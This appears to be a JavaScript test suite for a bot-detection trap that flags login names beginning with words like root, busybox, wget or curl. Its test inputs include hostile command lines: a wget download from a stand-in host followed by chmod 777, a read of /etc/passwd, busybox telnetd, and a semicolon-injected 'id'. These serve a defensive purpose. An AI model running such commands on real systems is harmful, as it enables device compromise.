import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BotTrap, DEFAULT_TRAP_WORDS } from './bot-trap.js';

describe('the bot trap', () => {
  const trap = new BotTrap(DEFAULT_TRAP_WORDS);

  it('springs on every default word, in any case', () => {
    for (const w of ['root', 'admin', 'sh', 'shell', 'enable', 'system', 'busybox', 'cat', 'wget', 'curl', 'chmod']) {
      assert.equal(trap.match(w), w);
      assert.equal(trap.match(w.toUpperCase()), w);
    }
  });

  it('looks at the first word of a pasted command line only', () => {
    assert.equal(trap.match('cat /proc/cpuinfo'), 'cat');
    assert.equal(trap.match('  wget http://198.51.100.1/x.sh; chmod 777 x.sh'), 'wget');
    assert.equal(trap.match('sh;echo hi'), 'sh');
    assert.equal(trap.match('/bin/busybox MIRAI'), 'busybox');
    assert.equal(trap.match('enable\u0000'), 'enable');
    assert.equal(trap.match('alice cat'), undefined);
  });

  it('lets ordinary handles through, including ones that merely start with a trap word', () => {
    for (const name of ['alice', 'Rootbeer', 'shelley', 'catwoman', 'administrator', 'new', '', '   ']) {
      assert.equal(trap.match(name), undefined, name);
    }
  });

  it('leaves real names that begin with a trap word alone (Cat Stevens is a person)', () => {
    for (const name of ['Cat Stevens', 'cat stevens', 'Enable Jones', 'Shell Silverstein', 'System Of A Down', 'Curl Up']) {
      assert.equal(trap.match(name), undefined, name);
    }
    assert.equal(trap.match('cat -v /etc/passwd'), 'cat');
    assert.equal(trap.match('curl http://x'), 'curl');
    assert.equal(trap.match('root'), 'root');
    assert.equal(trap.match('  SHELL  '), 'shell');
    assert.equal(trap.match('./busybox telnetd'), 'busybox');
  });

  it('uses the configured list, and an empty list never springs', () => {
    const custom = new BotTrap(['Guest', ' support ']);
    assert.equal(custom.match('guest'), 'guest');
    assert.equal(custom.match('SUPPORT; id'), 'support');
    assert.equal(custom.match('Support Group'), undefined);
    assert.equal(custom.match('root'), undefined);
    assert.equal(new BotTrap([]).match('root'), undefined);
  });

  it('bounds its work on a huge name', () => {
    assert.equal(trap.match('x'.repeat(1_000_000) + ' root'), undefined);
    assert.equal(trap.match('root' + ' '.repeat(1_000_000)), 'root');
  });
});
